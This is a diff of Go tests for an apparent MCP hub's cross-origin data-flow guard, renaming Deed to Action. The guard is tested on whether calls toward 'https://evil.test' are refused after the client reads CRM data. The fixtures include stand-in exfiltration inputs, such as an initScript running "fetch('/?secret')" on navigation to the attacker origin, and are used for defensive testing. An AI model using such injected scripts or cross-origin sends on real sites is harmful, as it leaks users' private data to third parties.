@@ -7,8 +7,8 @@ import (
 	"strings"
 	"testing"
 
+	"webmcphub/mcpserver/calls"
 	"webmcphub/registry"
-	"webmcphub/registry/mcpserver/calls"
 	"webmcphub/trust/flow"
 )
 
@@ -17,8 +17,8 @@ const (
 	evil = "https://evil.test"
 )
 
-func deedOn(origin string, kind calls.Kind, class calls.Class, args string) calls.Deed {
-	return calls.Deed{
+func actionOn(origin string, kind calls.Kind, class calls.Class, args string) calls.Action {
+	return calls.Action{
 		Who:   calls.Who{Session: "1"},
 		Where: calls.Where{Origin: origin, Document: registry.ServerRef{Page: "P"}},
 		What:  calls.What{Kind: kind, Name: "t", HubName: "webmcp_t", Class: class},
@@ -26,63 +26,63 @@ func deedOn(origin string, kind calls.Kind, class calls.Class, args string) call
 	}
 }
 
-// TestFlowOfDeeds: what counts of each kind of deed, after the client has read from the
+// TestFlowOfActions: what counts of each kind of action, after the client has read from the
 // CRM.
-func TestFlowOfDeeds(t *testing.T) {
-	named := func(name string) calls.Deed {
-		d := deedOn(evil, calls.BrowserTool, calls.Destructive, `{"pageId":1}`)
+func TestFlowOfActions(t *testing.T) {
+	named := func(name string) calls.Action {
+		d := actionOn(evil, calls.BrowserTool, calls.Destructive, `{"pageId":1}`)
 		d.Name = name
 		return d
 	}
-	listed := deedOn(evil, calls.Resource, calls.ReadOnly, `{"uri":"x:a"}`)
+	listed := actionOn(evil, calls.Resource, calls.ReadOnly, `{"uri":"x:a"}`)
 	listed.Listed = true
-	to := deedOn("", calls.BrowserTool, calls.Unknown, `{"url":"https://evil.test/?q=1"}`)
+	to := actionOn("", calls.BrowserTool, calls.Unknown, `{"url":"https://evil.test/?q=1"}`)
 	to.To = evil + "/?q=1"
-	visit := func(args string) calls.Deed {
-		d := deedOn(crm, calls.BrowserTool, calls.Unknown, args)
+	visit := func(args string) calls.Action {
+		d := actionOn(crm, calls.BrowserTool, calls.Unknown, args)
 		d.To = evil + "/"
 		return d
 	}
-	besides := deedOn(evil, calls.PageTool, calls.ReadOnly, `{}`)
+	besides := actionOn(evil, calls.PageTool, calls.ReadOnly, `{}`)
 	besides.Besides = json.RawMessage(`{"_meta":{"note":"secret"}}`)
 	for _, c := range []struct {
-		name  string
-		deed  calls.Deed
-		flows bool
+		name   string
+		action calls.Action
+		flows  bool
 	}{
-		{"a page's tool", deedOn(evil, calls.PageTool, calls.Unknown, `{}`), true},
-		{"a page's tool that says it only reads", deedOn(evil, calls.PageTool, calls.ReadOnly, `{}`), false},
-		{"the same with arguments", deedOn(evil, calls.PageTool, calls.ReadOnly, `{"q":"secret"}`), true},
-		{"the same with a yes or no", deedOn(evil, calls.PageTool, calls.ReadOnly, `{"secretStartsWithA":true}`), true},
-		{"a form of the page", deedOn(evil, calls.Introspected, calls.Unknown, `{"name":"secret"}`), true},
+		{"a page's tool", actionOn(evil, calls.PageTool, calls.Unknown, `{}`), true},
+		{"a page's tool that says it only reads", actionOn(evil, calls.PageTool, calls.ReadOnly, `{}`), false},
+		{"the same with arguments", actionOn(evil, calls.PageTool, calls.ReadOnly, `{"q":"secret"}`), true},
+		{"the same with a yes or no", actionOn(evil, calls.PageTool, calls.ReadOnly, `{"secretStartsWithA":true}`), true},
+		{"a form of the page", actionOn(evil, calls.Introspected, calls.Unknown, `{"name":"secret"}`), true},
 		{"a resource that is listed", listed, false},
-		{"a resource that the client made up", deedOn(evil, calls.Resource, calls.ReadOnly, `{"uri":"x:secret"}`), true},
-		{"a prompt without arguments", deedOn(evil, calls.Prompt, calls.Unknown, `{"name":"p"}`), true},
-		{"a prompt that only reads, without arguments", deedOn(evil, calls.Prompt, calls.ReadOnly, `{"name":"p"}`), false},
-		{"a completion of a prompt", deedOn(evil, calls.Prompt, calls.ReadOnly, `{"ref":{"type":"ref/prompt","name":"p"},"argument":{"name":"q","value":"secret"}}`), true},
+		{"a resource that the client made up", actionOn(evil, calls.Resource, calls.ReadOnly, `{"uri":"x:secret"}`), true},
+		{"a prompt without arguments", actionOn(evil, calls.Prompt, calls.Unknown, `{"name":"p"}`), true},
+		{"a prompt that only reads, without arguments", actionOn(evil, calls.Prompt, calls.ReadOnly, `{"name":"p"}`), false},
+		{"a completion of a prompt", actionOn(evil, calls.Prompt, calls.ReadOnly, `{"ref":{"type":"ref/prompt","name":"p"},"argument":{"name":"q","value":"secret"}}`), true},
 		{"an origin with a script", visit(`{"url":"https://evil.test/","initScript":"fetch('/?secret')"}`), true},
 		{"a page's tool that is told something besides", besides, true},
-		{"an answer to what a page asks", deedOn(evil, calls.PageAsks, calls.ReadOnly, `{"messages":[]}`), true},
-		{"a prompt with arguments", deedOn(evil, calls.Prompt, calls.ReadOnly, `{"name":"p","arguments":{"a":"secret"}}`), true},
-		{"a look at the page", deedOn(evil, calls.BrowserTool, calls.ReadOnly, `{"query":"secret"}`), false},
-		{"a click", deedOn(evil, calls.BrowserTool, calls.Unknown, `{"uid":"e1"}`), true},
+		{"an answer to what a page asks", actionOn(evil, calls.PageAsks, calls.ReadOnly, `{"messages":[]}`), true},
+		{"a prompt with arguments", actionOn(evil, calls.Prompt, calls.ReadOnly, `{"name":"p","arguments":{"a":"secret"}}`), true},
+		{"a look at the page", actionOn(evil, calls.BrowserTool, calls.ReadOnly, `{"query":"secret"}`), false},
+		{"a click", actionOn(evil, calls.BrowserTool, calls.Unknown, `{"uid":"e1"}`), true},
 		{"an address", to, true},
 		{"choosing a tab", named("select_page"), false},
 		{"closing a tab", named("close_page"), false},
 		{"another destructive one", named("emulate"), true},
-		{"the same page", deedOn(crm, calls.PageTool, calls.Unknown, `{"q":"secret"}`), false},
+		{"the same page", actionOn(crm, calls.PageTool, calls.Unknown, `{"q":"secret"}`), false},
 	} {
 		f := NewFlow(flow.Options{Mode: flow.Enforce}, nil)
-		if v, why, _ := f.Decide(c.deed); v != Allow {
+		if v, why, _ := f.Decide(c.action); v != Allow {
 			t.Errorf("%s, before anything was read: %v, %s", c.name, v, why)
 		}
-		f.Sent(deedOn(crm, calls.PageTool, calls.Unknown, `{}`))
-		v, why, _ := f.Decide(c.deed)
+		f.Sent(actionOn(crm, calls.PageTool, calls.Unknown, `{}`))
+		v, why, _ := f.Decide(c.action)
 		if (v == Refuse) != c.flows || c.flows && !strings.Contains(why, "--allow-flow 'https://crm.example->https://evil.test'") {
 			t.Errorf("%s: %v, %s", c.name, v, why)
 		}
 		f.ClientGone("1")
-		if v, _, _ := f.Decide(c.deed); v != Allow {
+		if v, _, _ := f.Decide(c.action); v != Allow {
 			t.Errorf("%s, after the client has gone: %v", c.name, v)
 		}
 	}
@@ -92,8 +92,8 @@ func TestFlowOfDeeds(t *testing.T) {
 func TestFlowModes(t *testing.T) {
 	for mode, want := range map[flow.Mode]Verdict{flow.Log: Log, flow.Ask: Ask, flow.Enforce: Refuse} {
 		f := NewFlow(flow.Options{Mode: mode}, nil)
-		f.Sent(deedOn(crm, calls.Resource, calls.ReadOnly, ""))
-		if v, _, _ := f.Decide(deedOn(evil, calls.PageTool, calls.Unknown, "")); v != want {
+		f.Sent(actionOn(crm, calls.Resource, calls.ReadOnly, ""))
+		if v, _, _ := f.Decide(actionOn(evil, calls.PageTool, calls.Unknown, "")); v != want {
 			t.Errorf("%s: %v", mode, v)
 		}
 	}
@@ -103,14 +103,14 @@ func TestFlowModes(t *testing.T) {
 // of them, and one of the hub's own from none.
 func TestFlowFromFrames(t *testing.T) {
 	f := NewFlow(flow.Options{Mode: flow.Enforce}, nil)
-	f.Sent(calls.Deed{Who: calls.Who{Session: "1"}, What: calls.What{Kind: calls.BrowserTool}})
-	if v, why, _ := f.Decide(deedOn(evil, calls.PageTool, calls.Unknown, "")); v != Allow {
+	f.Sent(calls.Action{Who: calls.Who{Session: "1"}, What: calls.What{Kind: calls.BrowserTool}})
+	if v, why, _ := f.Decide(actionOn(evil, calls.PageTool, calls.Unknown, "")); v != Allow {
 		t.Errorf("after the hub's own words: %v, %s", v, why)
 	}
-	look := deedOn(evil, calls.BrowserTool, calls.ReadOnly, "")
+	look := actionOn(evil, calls.BrowserTool, calls.ReadOnly, "")
 	look.Frames = []string{evil, "https://ads.test"}
 	f.Sent(look)
-	if v, why, _ := f.Decide(deedOn(evil, calls.PageTool, calls.Unknown, "")); v != Refuse || !strings.Contains(why, "https://ads.test") {
+	if v, why, _ := f.Decide(actionOn(evil, calls.PageTool, calls.Unknown, "")); v != Refuse || !strings.Contains(why, "https://ads.test") {
 		t.Errorf("after a look at a page with a frame: %v, %s", v, why)
 	}
 }
@@ -121,8 +121,8 @@ func TestAnswersAboutFlows(t *testing.T) {
 		var kept []string
 		f := NewFlow(flow.Options{Mode: flow.Ask}, func(pairs []string) { kept = append(kept, pairs...) })
 		g := New(Options{Flow: f})
-		g.Sent(deedOn(crm, calls.PageTool, calls.Unknown, ""))
-		d := deedOn(evil, calls.PageTool, calls.Unknown, "")
+		g.Sent(actionOn(crm, calls.PageTool, calls.Unknown, ""))
+		d := actionOn(evil, calls.PageTool, calls.Unknown, "")
 		asked := 0
 		d.Ask = func(ctx context.Context, _ json.RawMessage) (json.RawMessage, error) {
 			asked++
@@ -155,10 +155,10 @@ func TestAnswersAboutFlows(t *testing.T) {
 func TestApprovedFlows(t *testing.T) {
 	var kept []string
 	f := NewFlow(flow.Options{Mode: flow.Ask}, func(pairs []string) { kept = append(kept, pairs...) })
-	f.Sent(deedOn(crm, calls.PageTool, calls.Unknown, ""))
-	d := deedOn(evil, calls.PageTool, calls.Unknown, "")
+	f.Sent(actionOn(crm, calls.PageTool, calls.Unknown, ""))
+	d := actionOn(evil, calls.PageTool, calls.Unknown, "")
 	_, _, approve := f.Decide(d)
-	f.Sent(deedOn("https://bank.example", calls.PageTool, calls.Unknown, ""))
+	f.Sent(actionOn("https://bank.example", calls.PageTool, calls.Unknown, ""))
 	approve()
 	if v, why, _ := f.Decide(d); v != Ask || strings.Contains(why, crm) || !strings.Contains(why, "bank") {
 		t.Errorf("%v, %s", v, why)
@@ -175,13 +175,13 @@ func TestApprovedFlows(t *testing.T) {
 		"an address elsewhere": {crm, "to https://[::1"},
 	} {
 		f := NewFlow(flow.Options{Mode: flow.Ask}, nil)
-		d := deedOn(evil, calls.PageTool, calls.Unknown, "")
+		d := actionOn(evil, calls.PageTool, calls.Unknown, "")
 		for _, origin := range from {
 			if to, is := strings.CutPrefix(origin, "to "); is {
 				d.Origin = to
 				continue
 			}
-			f.Sent(deedOn(origin, calls.PageTool, calls.Unknown, ""))
+			f.Sent(actionOn(origin, calls.PageTool, calls.Unknown, ""))
 		}
 		if v, _, approve := f.Decide(d); v != Ask || approve != nil {
 			t.Errorf("%s: %v, and it can be approved for good: %v", name, v, approve != nil)
@@ -195,9 +195,9 @@ func TestWhatNavigationsBring(t *testing.T) {
 	for args, want := range map[string]Verdict{`{"url":"https://evil.test/","type":"url","timeout":5}`: Allow, `{"type":"back"}`: Allow, ``: Allow,
 		`{"url":"https://evil.test/","initScript":"fetch('/?secret')"}`: Refuse, `{"type":"back","initScript":"1"}`: Refuse, `[]`: Refuse} {
 		f := NewFlow(flow.Options{Mode: flow.Enforce}, nil)
-		f.Sent(deedOn(crm, calls.PageTool, calls.Unknown, ""))
-		f.Sent(deedOn(evil, calls.PageTool, calls.Unknown, ""))
-		d := deedOn(crm, calls.BrowserTool, calls.Unknown, args)
+		f.Sent(actionOn(crm, calls.PageTool, calls.Unknown, ""))
+		f.Sent(actionOn(evil, calls.PageTool, calls.Unknown, ""))
+		d := actionOn(crm, calls.BrowserTool, calls.Unknown, args)
 		d.Name, d.To = "navigate_page", evil+"/"
 		if v, why, _ := f.Decide(d); v != want {
 			t.Errorf("%s: %v, %s", args, v, why)
@@ -217,10 +217,10 @@ func TestWhatComesUpUnderAQuestion(t *testing.T) {
 
 	f := NewFlow(flow.Options{Mode: flow.Ask}, nil)
 	g = New(Options{Flow: f})
-	f.Sent(deedOn(crm, calls.PageTool, calls.Unknown, ""))
-	d := deedOn(evil, calls.PageTool, calls.Unknown, "")
+	f.Sent(actionOn(crm, calls.PageTool, calls.Unknown, ""))
+	d := actionOn(evil, calls.PageTool, calls.Unknown, "")
 	d.Ask = func(context.Context, json.RawMessage) (json.RawMessage, error) {
-		f.Sent(deedOn("https://bank.example", calls.PageTool, calls.Unknown, ""))
+		f.Sent(actionOn("https://bank.example", calls.PageTool, calls.Unknown, ""))
 		return json.RawMessage(yes), nil
 	}
 	wantRefused(t, g.Judge(context.Background(), d), "another reason to ask has come up")
@@ -229,7 +229,7 @@ func TestWhatComesUpUnderAQuestion(t *testing.T) {
 // TestReadAfterTheEnd: a call that ends after its client's session leaves nothing behind.
 func TestReadAfterTheEnd(t *testing.T) {
 	f := NewFlow(flow.Options{Mode: flow.Enforce}, nil)
-	d := deedOn(crm, calls.PageTool, calls.Unknown, `{}`)
+	d := actionOn(crm, calls.PageTool, calls.Unknown, `{}`)
 	f.Sent(d)
 	f.ClientGone("1")
 	f.Sent(d)
@@ -248,7 +248,7 @@ func TestReadAfterTheEnd(t *testing.T) {
 // TestToldAnywhere: what goes along to any site is a flow even on the site that was read, and
 // only a pair that ends with * allows it.
 func TestToldAnywhere(t *testing.T) {
-	d := deedOn(crm, calls.BrowserTool, calls.Unknown, `{"userAgent":"secret"}`)
+	d := actionOn(crm, calls.BrowserTool, calls.Unknown, `{"userAgent":"secret"}`)
 	d.Anywhere = true
 	for pair, want := range map[string]Verdict{"": Refuse, crm + "->" + evil: Refuse, crm + "->" + crm: Refuse, crm + "->*": Allow} {
 		o := flow.Options{Mode: flow.Enforce}
@@ -260,7 +260,7 @@ func TestToldAnywhere(t *testing.T) {
 			o.Pairs = append(o.Pairs, p)
 		}
 		f := NewFlow(o, nil)
-		f.Sent(deedOn(crm, calls.PageTool, calls.Unknown, `{}`))
+		f.Sent(actionOn(crm, calls.PageTool, calls.Unknown, `{}`))
 		if got, why, _ := f.Decide(d); got != want {
 			t.Errorf("with %q: %v, %s", pair, got, why)
 		}
